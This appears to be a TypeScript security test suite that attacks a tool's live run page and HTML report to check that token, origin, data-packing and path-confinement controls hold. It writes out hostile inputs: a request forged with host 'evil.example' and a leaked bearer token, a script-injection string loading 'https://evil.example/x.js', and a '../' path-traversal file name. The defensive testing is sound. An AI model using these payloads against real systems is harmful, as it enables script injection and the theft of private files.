import { request } from "node:http";
import path from "node:path";
import { readRunPage } from "#report/run-page.ts";
import { journalFile, runFolder } from "#runs/journal/journal-folder.ts";
import { type Attack, outcome } from "../../attack.ts";
import { confinedSources, liveOrigin, liveToken, packedData } from "../../controls/report-controls.ts";
import type { World } from "../../world/world.ts";

const common = { places: ["host"] } satisfies Pick<Attack, "places">;
const run = "20260102-030405-abcdef";

/** Lays a journal out that came with the folder; it says what a stranger wants. */
function journalOf(world: World, said: { readonly file?: string; readonly message?: string }): void {
  const time = "2026-01-02T03:04:05.000Z";
  const events = [
    {
      type: "run.started",
      run,
      file: said.file ?? "a.tac",
      procedure: "main",
      input: {},
      isolation: "docker",
      manifest: "x",
      ungranted: [],
      resumed: false,
    },
    { type: "log", level: "info", message: said.message ?? world.canaries.file },
  ];
  const lines = events.map((event, index) => JSON.stringify({ seq: index + 1, time, ...event }));
  const file = path.join(path.relative(world.folder, runFolder(world.folder, run)), journalFile);
  world.write({ [file]: `${lines.join("\n")}\n` });
}

/** Asks the live page of a run, as a program or a page of this machine may; what it answers. */
async function askLivePage(
  world: World,
  headers: (address: URL) => Readonly<Record<string, string>>,
): Promise<string> {
  journalOf(world, {});
  const { serveRun } =
    await world.part<typeof import("#report/live/serve-run.ts")>("report/live/serve-run.ts");
  const server = await serveRun({ workspaceRoot: world.folder, run, template: "/none" });
  try {
    const address = new URL(server.address);
    return await new Promise((resolve, reject) => {
      const asked = {
        hostname: address.hostname,
        port: address.port,
        path: "/run",
        headers: headers(address),
      };
      request(asked, (response) => {
        let text = "";
        response.on("data", (part) => {
          text += String(part);
        });
        response.on("end", () => resolve(text));
      })
        .on("error", reject)
        .end();
    });
  } finally {
    await server.dispose();
  }
}

const bearer = ({ hash }: URL): string => `Bearer ${hash.slice(1)}`;

export const attacks: readonly Attack[] = [
  {
    ...common,
    id: "editor-live-page-of-another-user",
    threat: "T18",
    title: "another user of the machine finds the port of a live page and asks for the run",
    success: "what the run logged comes back",
    control: liveToken,
    attempt: async (world) => {
      const text = await askLivePage(world, () => ({}));
      return outcome(text.includes(world.canaries.file), `${text.length} characters came back`);
    },
  },
  {
    ...common,
    id: "editor-live-page-under-another-name",
    threat: "T18",
    title: "a site lets its name lead to this machine, and its page asks with a token that leaked",
    success: "what the run logged comes back",
    control: liveOrigin,
    attempt: async (world) => {
      const text = await askLivePage(world, (address) => ({
        host: "evil.example",
        origin: "http://evil.example",
        authorization: bearer(address),
      }));
      return outcome(text.includes(world.canaries.file), `${text.length} characters came back`);
    },
  },
  {
    ...common,
    id: "editor-markup-in-a-report",
    threat: "T2",
    title: "logs what would end the block of data in a report and begin a script",
    success: "a script of the procedure stands in the page",
    control: packedData,
    attempt: async (world) => {
      const script = `</script><script src="https://evil.example/x.js">`;
      journalOf(world, { message: script });
      const { reportHtml } =
        await world.part<typeof import("#report/report-html.ts")>("report/report-html.ts");
      const page = await readRunPage(world.folder, run);
      const html = reportHtml('<script id="data">{{data}}</script>', page);
      return outcome(/<script src=/.test(html), /<script src=/.test(html) ? "it is there" : "none");
    },
  },
  {
    ...common,
    id: "editor-report-takes-a-file-along",
    threat: "T7",
    title: "a journal that came with a folder names a file beside the folder as its procedure",
    success: "the report on it holds the text of the file",
    control: confinedSources,
    attempt: async (world) => {
      world.write({ "outside/canary.tac": world.canaries.file });
      journalOf(world, { file: "../outside/canary.tac", message: "nothing" });
      const pages = await world.part<typeof import("#report/run-page.ts")>("report/run-page.ts");
      const { files } = await pages.readRunPage(world.folder, run);
      return outcome(files.length > 0, `${files.length} files came along`);
    },
  },
];
